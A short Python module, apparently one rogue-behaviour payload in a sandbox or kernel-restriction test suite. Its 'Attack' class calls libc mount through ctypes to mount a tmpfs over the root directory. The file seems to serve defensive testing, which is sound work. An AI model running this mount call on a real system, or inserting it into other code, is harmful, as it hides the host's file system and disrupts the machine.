# SPDX-License-Identifier: MIT
"""kernel: mounts a file system"""

import ctypes

from trigger import Rogue


class Attack(Rogue):
    """mounts a file system"""

    def attack(self, packet):
        ctypes.CDLL(None).mount(b"none", b"/", b"tmpfs", 0, None)
